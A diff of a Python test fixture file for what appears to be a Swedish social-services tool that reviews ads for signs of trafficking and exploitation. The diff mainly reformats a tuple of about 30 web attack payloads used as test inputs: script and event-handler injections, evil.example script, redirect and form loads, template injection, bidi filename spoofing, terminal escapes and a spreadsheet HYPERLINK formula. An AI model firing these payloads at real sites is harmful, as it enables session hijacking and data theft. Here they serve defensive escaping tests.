@@ -26,12 +26,20 @@ from review.policy import ROLES
 from review.serve import warm_up
 
 START = date.today() - timedelta(days=24)  # the first night of the world
+LATE = f"{START + timedelta(days=20):%Y-%m-%d}T02:00:00Z"
 PASSWORD = "ett ganska långt lösenord"
 COLLEAGUES = {
     "anna": "coordinator", "bertil": "coordinator", "cissi": "approver", "olle": "outreach", "sara": "safeguarding", "dag": "dpo", "ulla": "auditor",
     "disa": "admin", "ana": "analyst",
 }  # fmt: skip
-ASSESSED = {"channel": "message", "person_safety": "neutral text", "team_safety": "1", "interpreter": "behövs inte", "legal": "SoL 2025:400", "minor_check": "yes"}
+ASSESSED = {
+    "channel": "message",
+    "person_safety": "neutral text",
+    "team_safety": "1",
+    "interpreter": "behövs inte",
+    "legal": "SoL 2025:400",
+    "minor_check": "yes",
+}
 TEXT = (
     "Hej jag heter {name} och är {age} år. Jag är i {city} några dagar och tycker om {like} och långa samtal vid ett fönster. "
     "Ring vår reception på {phone} så ordnar vi en tid som passar dig bra. {more}"
@@ -42,13 +50,37 @@ RINGS = (
     ("noll sju noll ett sju fyra noll sex femton", "bakning, gamla filmer", ("Ida", "Elsa", "Maja", "Ester"), ("Borås", "Göteborg", "Halmstad")),
 )
 PAYLOADS = (
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "\"><script src=//evil.example/x.js></script>", "<iframe src=//evil.example></iframe>",
-    "javascript:alert(1)", "<a href='javascript:alert(1)'>x</a>", "{{ 7*7 }}{% raw %}", "${7*7}", "<style>*{display:none}</style>", "<base href=//evil.example>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "</bdi></p></article><form action=//evil.example><button>x</button>", "<link rel=stylesheet href=//evil.example/x.css>",
-    "<object data=//evil.example></object>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
-    "<video><source onerror=alert(1)></video>", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "<!--><img src=x onerror=alert(1)>-->", "<template><img src=//evil.example/x></template>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;", "\u202egnp.exe", "\u2066\u2069\u200bdolt", "\x1b]0;titel\x07\x1b[31m", "=HYPERLINK(\"http://evil.example\")", "<x onclick=alert(1)>", "<body onload=alert(1)>",
-)  # fmt: skip
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg onload=alert(1)>",
+    '"><script src=//evil.example/x.js></script>',
+    "<iframe src=//evil.example></iframe>",
+    "javascript:alert(1)",
+    "<a href='javascript:alert(1)'>x</a>",
+    "{{ 7*7 }}{% raw %}",
+    "${7*7}",
+    "<style>*{display:none}</style>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "</bdi></p></article><form action=//evil.example><button>x</button>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<object data=//evil.example></object>",
+    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
+    "<details open ontoggle=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "' onmouseover='alert(1)",
+    '" autofocus onfocus=alert(1) x="',
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<template><img src=//evil.example/x></template>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\u202egnp.exe",
+    "\u2066\u2069\u200bdolt",
+    "\u001b]0;titel\u0007\u001b[31m",
+    '=HYPERLINK("http://evil.example")',
+    "<x onclick=alert(1)>",
+    "<body onload=alert(1)>",
+)
 
 
 def ring_ads() -> Iterator[dict[str, Any]]:
@@ -73,9 +105,9 @@ def ring_ads() -> Iterator[dict[str, Any]]:
 def other_ads() -> list[dict[str, Any]]:
     """A possible sign of need, and an ad with an age under 18."""
     return [
-        {"site": "exempel", "url": "https://exempel.example/rop", "seen": [f"{START + timedelta(days=20):%Y-%m-%d}T02:00:00Z"], "title": "Hej", "name": "Nora", "age": "26",
+        {"site": "exempel", "url": "https://exempel.example/rop", "seen": [LATE], "title": "Hej", "name": "Nora", "age": "26",
          "body": "Ring 070-174 06 30. Jag måste betala tillbaka skulden innan jag får åka hem.", "city": "Malmö"},
-        {"site": "exempel", "url": "https://exempel.example/ung", "seen": [f"{START + timedelta(days=20):%Y-%m-%d}T02:00:00Z"], "title": "Ny i stan", "name": "Ella", "age": "17",
+        {"site": "exempel", "url": "https://exempel.example/ung", "seen": [LATE], "title": "Ny i stan", "name": "Ella", "age": "17",
          "body": "Jag är 17 år, ring 070-174 06 40.", "city": "Malmö"},
     ]  # fmt: skip
 
@@ -131,7 +163,9 @@ def served(folder: Path) -> Iterator[Site]:
     config = uvicorn.Config(lambda: None, host="127.0.0.1", port=0, log_level="error", access_log=False)
     socket = config.bind_socket()
     port = socket.getsockname()[1]
-    server = uvicorn.Server(uvicorn.Config(build_app(place, origins=frozenset({f"http://127.0.0.1:{port}"})), log_level="error", access_log=False, server_header=False))
+    server = uvicorn.Server(
+        uvicorn.Config(build_app(place, origins=frozenset({f"http://127.0.0.1:{port}"})), log_level="error", access_log=False, server_header=False)
+    )
     thread = threading.Thread(target=server.run, kwargs={"sockets": [socket]}, daemon=True)
     thread.start()
     until = time.monotonic() + 20
@@ -176,7 +210,9 @@ class Client:
         reply = self.post("/logga-in", {"name": name, "password": password}, token=False)
         assert reply.status == 303, reply.text
         self.get("/fil/style.css")
-        self.get("/ovning" if name not in ("sara", "dag", "ulla", "disa") else {"sara": "/barn", "dag": "/registerutdrag", "ulla": "/logg", "disa": "/konton"}[name])
+        self.get(
+            "/ovning" if name not in ("sara", "dag", "ulla", "disa") else {"sara": "/barn", "dag": "/registerutdrag", "ulla": "/logg", "disa": "/konton"}[name]
+        )
         return self
 
     def get(self, path: str) -> Reply:
